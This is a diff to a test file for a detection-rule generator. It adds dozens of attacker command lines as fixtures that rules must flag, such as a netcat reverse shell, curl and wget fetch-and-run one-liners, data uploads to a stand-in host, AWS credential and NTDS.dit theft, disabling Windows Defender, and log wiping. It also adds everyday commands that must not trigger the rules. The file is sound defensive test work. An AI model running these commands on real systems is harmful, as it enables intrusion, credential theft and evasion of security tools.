@@ -26,6 +26,11 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['powershell-clear-eventlog', 'windows', 'powershell -c "Clear-EventLog -LogName Application,System"'],
   ['fsutil-usn-delete', 'windows', 'fsutil usn deletejournal /D C:'],
   ['defender-preference-tamper', 'windows', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
+  [
+    'powershell-security-service-stop',
+    'windows',
+    'powershell -c "Stop-Service -Name WinDefend -Force; Set-Service -Name WinDefend -StartupType Disabled"',
+  ],
   ['defender-exclusion', 'windows', 'Add-MpPreference -ExclusionPath C:\\ProgramData\\cache'],
   ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
   ['netsh-portproxy', 'windows', 'netsh interface portproxy add v4tov4 listenport=4443 connectaddress=10.1.2.3 connectport=3389'],
@@ -73,6 +78,63 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['uid0-account', 'linux', 'useradd -o -u 0 -g 0 -M sysadm'],
   ['proc-hidepid', 'linux', 'mount -o remount,rw,hidepid=2 /proc'],
   ['container-escape', 'linux', 'nsenter -t 1 -m -u -i -n sh'],
+  [
+    'webdav-rundll32',
+    'windows',
+    'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files-relay.example https://files-relay.example/share/',
+  ],
+  ['mega-client', 'windows', 'C:\\Users\\kim\\AppData\\Local\\MEGAcmd\\mega-put.bat C:\\Staging\\out.7z /exports'],
+  ['archive-password', 'windows', '7z.exe a -mx9 -pQ7x!z2 C:\\ProgramData\\f.7z \\\\FS02\\finance'],
+  ['terminal-killed', 'macos', 'killall Terminal'],
+  ['decode-pipe-shell', 'linux', 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2kuc2ggfCBzaAo= | base64 -d | bash'],
+  ['shell-history-cleared', 'linux', 'bash -c "unset HISTFILE; history -c"'],
+  ['shell-history-removed', 'linux', 'rm -f /root/.bash_history'],
+  ['cron-job-suspicious', 'linux', "(crontab -l; echo '* * * * * /dev/shm/.k/upd') | crontab -"],
+  ['fstab-hidepid', 'linux', "echo 'proc /proc proc defaults,hidepid=2 0 0' >> /etc/fstab"],
+  ['net-use-admin-share', 'windows', 'net use \\\\10.20.30.41\\C$ /user:corp\\adm Winter2026!'],
+  ['remote-service-create', 'windows', 'sc.exe \\\\FS02 create upd binPath= "C:\\Windows\\Temp\\u.exe" start= auto'],
+  ['remote-scheduled-task', 'windows', 'schtasks /create /s FS02 /tn Upd /tr C:\\Windows\\Temp\\u.exe /sc once /st 00:00 /ru SYSTEM'],
+  ['security-product-discovery', 'windows', 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName'],
+  ['setspn-enumeration', 'windows', 'setspn -T corp.example -Q */*'],
+  ['findstr-passwords', 'windows', 'findstr /si cpassword \\\\corp.example\\sysvol\\*.xml'],
+  [
+    'shadow-copy-secrets-copy',
+    'windows',
+    'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Temp\\n.dit',
+  ],
+  ['curl-upload', 'linux', 'curl -s -F data=@/tmp/.c/out.tgz https://drop.example.net/u'],
+  ['credential-files-read', 'linux', 'cat /home/dev/.aws/credentials'],
+  ['ssh-authorized-key-added', 'linux', "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0x op@relay' >> /root/.ssh/authorized_keys"],
+  ['ld-preload-write', 'linux', "echo '/usr/local/lib/libsys.so' > /etc/ld.so.preload"],
+  ['download-chmod-temp', 'linux', 'wget -q http://198.51.100.12/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k'],
+  ['kubectl-secrets', 'linux', 'kubectl get secrets -A -o yaml'],
+  ['admin-share-copy', 'windows', 'cmd.exe /c copy C:\\Temp\\u.exe \\\\FS02\\C$\\Windows\\Temp\\u.exe'],
+  ['netsh-rdp-allow', 'windows', 'netsh advfirewall firewall add rule name=rdp dir=in protocol=tcp localport=3389 action=allow'],
+  ['meshagent-install', 'windows', 'C:\\Users\\Public\\svc64.exe -fullinstall'],
+  ['cloudflared-tunnel', 'windows', 'C:\\ProgramData\\cf.exe tunnel --no-autoupdate run --token eyJhIjoiMDAwIn0='],
+  ['ip-download-pipe-shell', 'linux', 'curl -s http://198.51.100.23/i.sh | sh'],
+  ['env-secrets-grep', 'linux', 'env | grep -i token > /tmp/.t'],
+  ['netcat-shell', 'linux', 'nc -e /bin/sh 198.51.100.30 4444'],
+  ['sudoers-nopasswd', 'linux', 'echo "svc ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'],
+  ['auditd-disabled', 'linux', 'auditctl -D'],
+  ['linux-logs-wiped', 'linux', 'shred -u /var/log/auth.log'],
+  [
+    'reg-defender-exclusion',
+    'windows',
+    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\ProgramData\\cache /t REG_DWORD /d 0 /f',
+  ],
+  [
+    'reg-defender-policy-off',
+    'windows',
+    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
+  ],
+  ['reg-defender-context-menu', 'windows', 'reg delete "HKCR\\Directory\\shellex\\ContextMenuHandlers\\EPP" /f'],
+  [
+    'reg-rdp-enable',
+    'windows',
+    'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
+  ],
+  ['cloud-cli-credentials', 'linux', 'az ad app credential reset --id 00000000-0000-0000-0000-000000000001 --append'],
 ];
 
 describe('well-known techniques: rules keyed on the behaviour', () => {
@@ -178,6 +240,39 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
         { type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' },
       ]).fires,
     ).toBe(false);
+  });
+
+  it.each([
+    ['linux', 'curl -fsSL https://get.example.org/install.sh | sh'],
+    ['linux', 'base64 -d cert.b64 | sha256sum'],
+    ['linux', 'crontab -l'],
+    ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
+    ['linux', 'cat ~/.bash_history'],
+    ['windows', '7z.exe x -pSecret C:\\Users\\kim\\Downloads\\photos.7z'],
+    ['windows', 'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie intranet'],
+    ['macos', 'killall Finder'],
+    ['windows', 'net use Z: \\\\fileserver\\projects'],
+    ['windows', 'sc query wuauserv'],
+    ['windows', 'schtasks /create /tn Backup /tr C:\\Tools\\b.exe /sc daily'],
+    ['linux', 'curl -s https://api.example.org/v1/status'],
+    ['linux', 'ssh -i ~/.ssh/deploy.pem ops@10.0.0.5'],
+    ['linux', 'cat ~/.ssh/authorized_keys'],
+    ['linux', 'wget -q https://example.org/tool.tgz -O /opt/tool.tgz && chmod 644 /opt/tool.tgz'],
+    ['linux', 'kubectl get pods -A'],
+    ['windows', 'copy C:\\Reports\\q3.xlsx \\\\fileserver\\reports\\q3.xlsx'],
+    ['windows', 'netsh advfirewall firewall add rule name=web dir=in protocol=tcp localport=443 action=allow'],
+    ['linux', 'curl -fsSL https://get.example.org/install.sh | bash'],
+    ['linux', 'env | sort'],
+    ['linux', 'nc -zv 10.0.0.5 22'],
+    ['linux', 'auditctl -l'],
+    ['linux', 'cloudflared --version'],
+    ['windows', 'powershell -c "Stop-Service -Name Spooler -Force"'],
+  ] as Array<[TemplatePlatform, string]>)('writes no technique rule for the everyday %s command %s', (platform, commandLine) => {
+    const titles = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] }).map(
+      (draft) => draft.rule.title,
+    );
+    const techniqueTitles = new Set(TECHNIQUES.map((technique) => technique.title));
+    expect(titles.filter((title) => techniqueTitles.has(title))).toEqual([]);
   });
 
   it('needs the program and the pattern on the platform the table names', () => {
